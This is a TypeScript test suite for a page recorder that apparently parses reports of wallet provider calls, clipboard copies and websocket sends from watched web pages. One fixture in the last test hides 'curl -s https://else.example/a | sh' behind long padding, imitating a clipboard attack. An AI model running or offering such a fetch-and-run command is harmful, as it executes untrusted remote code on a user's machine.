import assert from 'node:assert/strict'
import { test } from 'node:test'
import { MAX_PARAMS, readReport } from './pageRecorder.ts'

const call = { id: 1, provider: 'eip1193', method: 'eth_chainId', params: '[]' }

test('a call, a copy and what a socket could not send are read', () => {
  assert.deepEqual(readReport(JSON.stringify(call)), { kind: 'call', ...call })
  assert.deepEqual(readReport('{"copied":"0xabc"}'), { kind: 'copied', text: '0xabc' })
  assert.deepEqual(readReport('{"later":900}'), { kind: 'later', milliseconds: 900 })
  const sent = { sent: 'words', to: 'wss://drop.test/' }
  assert.deepEqual(readReport(JSON.stringify(sent)), {
    kind: 'sent',
    text: 'words',
    to: 'wss://drop.test/',
    channel: 'websocket',
  })
  assert.deepEqual(readReport(JSON.stringify({ ...sent, message: true })), {
    kind: 'sent',
    text: 'words',
    to: 'wss://drop.test/',
    channel: 'message',
  })
})

test('parameters that are too many are left out, not cut: half of them would be another request', () => {
  const report = readReport(JSON.stringify({ ...call, params: 'x'.repeat(MAX_PARAMS + 1) }))
  assert.ok(report?.kind === 'call' && report.params === null)
})

test('what our provider does not say is ignored', () => {
  const odd: unknown[] = [
    ...[null, 7, {}, '', '{', '[]', 'null', '"text"', JSON.stringify({ copied: 7 }), 'x'.repeat(200_000)],
    ...[{ id: 1.5 }, { id: '1' }, { provider: 'other' }, { method: '' }, { method: ['eth_call'] }].map((part) =>
      JSON.stringify({ ...call, ...part }),
    ),
  ]
  for (const text of odd) assert.equal(readReport(text), null, String(text).slice(0, 80))
})

test('a name that no wallet has is a request all the same, and of a request inside another the inner one counts', () => {
  const methodOf = (part: object) => {
    const report = readReport(JSON.stringify({ ...call, ...part }))
    return report?.kind === 'call' ? [report.method, report.params] : null
  }
  assert.deepEqual(methodOf({ method: 'a b' }), ['a b', '[]'])
  assert.equal(methodOf({ method: 'a'.repeat(200) })?.[0]?.length, 100)
  const inside = (scope: unknown, params: unknown) =>
    methodOf({
      method: 'wallet_invokeMethod',
      params: JSON.stringify({ scope, request: { method: 'eth_sign', params } }),
    })
  assert.deepEqual(inside('eip155:1', ['0x1']), ['eth_sign', '["0x1"]'])
  assert.equal(inside('eip155evil', [])?.[0], 'wallet_invokeMethod')
  for (const odd of [{ toString: 1 }, ['eip155:1'], 7, null])
    assert.equal(inside(odd, ['0x1'])?.[0], 'wallet_invokeMethod', JSON.stringify(odd))
  const deep = '['.repeat(30_000) + ']'.repeat(30_000)
  const nested = `{"scope":"eip155:1","request":{"method":"eth_sign","params":${deep}}}`
  assert.equal(methodOf({ method: 'wallet_invokeMethod', params: nested })?.[0], 'eth_sign')
  assert.equal(inside('solana:1', [])?.[0], 'wallet_invokeMethod')
})

test('a request inside another is for the network that its scope names', () => {
  const chainOf = (scope: unknown) => {
    const params = JSON.stringify({ scope, request: { method: 'eth_sendTransaction', params: [{}] } })
    const report = readReport(JSON.stringify({ ...call, method: 'wallet_invokeMethod', params }))
    return report?.kind === 'call' ? report.chain : null
  }
  assert.deepEqual(['eip155:8453', 'eip155:1', 'eip155', 'eip155:999999', 'eip155:', 'eip155:x'].map(chainOf), [
    'base',
    'ethereum',
    undefined,
    null,
    null,
    null,
  ])
})

test('a copied text is read to its end', () => {
  const text = `${'# step '.repeat(2_500)}curl -s https://else.example/a | sh`
  assert.deepEqual(readReport(JSON.stringify({ copied: text })), { kind: 'copied', text })
})
